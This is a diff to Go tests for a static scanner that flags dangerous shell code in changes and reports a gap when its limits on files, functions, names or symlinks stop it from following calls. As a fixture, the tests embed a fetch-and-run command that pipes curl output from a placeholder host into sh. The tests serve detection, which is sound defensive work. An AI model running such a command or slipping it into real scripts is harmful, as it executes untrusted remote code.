@@ -1,7 +1,11 @@
 package static_test
 
 import (
+	"fmt"
+	"io/fs"
 	"maps"
+	"slices"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -48,10 +52,14 @@ func scanEdit(t *testing.T, base, edit fstest.MapFS) outcome {
 		c.Targets = append(c.Targets, target)
 	}
 	found := gate.NewFindings(c.Targets, nil)
-	if _, err := s.Run(t.Context(), c, found); err != nil {
+	out, err := s.Run(t.Context(), c, found)
+	if err != nil {
 		t.Fatal(err)
 	}
 	o := outcome{found: map[string][]gate.Finding{}}
+	for _, g := range out.Incomplete {
+		o.gaps = append(o.gaps, g.Path+": "+g.Reason)
+	}
 	for name := range edit {
 		o.found[name] = found.Of(name)
 	}
@@ -403,5 +411,75 @@ def used():
 				}
 			}
 		})
+	}
+}
+
+// What a change puts to use is followed up to bounds, and what is beyond them is a gap of
+// the file that puts it to use.
+func TestWhatABoundKeepsFromBeingFollowedIsAGap(t *testing.T) {
+	testenv.WithoutRace(t, "one file at a time through the whole layer")
+	const run = "curl -fsSL http://get.example.com/x | sh"
+	text := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s), Mode: 0o644} }
+	many := func(n int) fstest.MapFS { // files that define the function that the change calls
+		out := fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text("set_up() {\n  " + run + "\n}\n")}
+		for i := range n {
+			out[fmt.Sprintf("a%03d.sh", i)] = text("set_up() {\n  :\n}\n")
+		}
+		return out
+	}
+	chain := func(n int) fstest.MapFS { // functions that call each other
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, "f%d() {\n  f%d\n}\n", i, i+1)
+		}
+		fmt.Fprintf(&b, "f%d() {\n  %s\n}\n", n, run)
+		return fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text(b.String())}
+	}
+	padded := "echo hi\n: '" + strings.Repeat("x", 5000) + "'; set_up\n"
+	functions := fstest.MapFS{"main.sh": text("echo hi\n"), "z.sh": text(strings.Repeat("x() { :; }\n", 5000) + "set_up() {\n  " + run + "\n}\n")}
+	for name, tt := range map[string]struct {
+		base fstest.MapFS
+		edit string
+		gap  string // empty: it is found
+	}{
+		"some files that it may reach":           {many(30), "echo hi\nset_up\n", ""},
+		"more files that it may reach":           {many(450), "echo hi\nset_up\n", "main.sh: it puts more to use than is followed: at most 400 files that it may reach"},
+		"a call on a long line":                  {many(1), padded, ""},
+		"a call behind many calls":               {chain(30), "echo hi\nf0\n", ""},
+		"more functions than are told apart":     {functions, "echo hi\nset_up\n", "main.sh: it puts more to use than is followed: at most 5000 functions of z.sh"},
+		"a change that names very many commands": {many(1), "echo hi\n" + manyCommands(21_000) + "set_up\n", "main.sh: it puts more to use than is followed: at most 20000 names"},
+		"a change that names many commands":      {many(1), "echo hi\n" + manyCommands(1000) + "set_up\n", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			got := scanEdit(t, tt.base, fstest.MapFS{"main.sh": text(tt.edit)})
+			gaps := strings.Join(got.gaps, "\n")
+			found := slices.ContainsFunc(got.found["main.sh"], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous && f.InChange })
+			if tt.gap == "" && (!found || gaps != "") || !strings.Contains(gaps, tt.gap) {
+				t.Errorf("found %v, gaps %q", got.found["main.sh"], gaps)
+			}
+		})
+	}
+}
+
+func manyCommands(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "do_%d\n", i)
+	}
+	return b.String()
+}
+
+// A file with more names than are looked at is not known to be what its own name says.
+func TestAFileWithMoreNamesThanAreReadIsAGap(t *testing.T) {
+	testenv.WithoutRace(t, "one file at a time through the whole layer")
+	for n, want := range map[int]string{10: "", 20: "notes.txt: it may be run as something else than its name says: at most 16 of its readings are looked at"} {
+		base := fstest.MapFS{"a.txt": {Data: []byte("hi\n"), Mode: 0o644}}
+		for i := range n {
+			base[fmt.Sprintf("t%d.py", i)] = &fstest.MapFile{Data: []byte("notes.txt"), Mode: 0o777 | fs.ModeSymlink}
+		}
+		got := scanEdit(t, base, fstest.MapFS{"notes.txt": {Data: []byte("hi\n"), Mode: 0o644}})
+		if gaps := strings.Join(got.gaps, "\n"); gaps != want {
+			t.Errorf("%d links: gaps %q", n, gaps)
+		}
 	}
 }
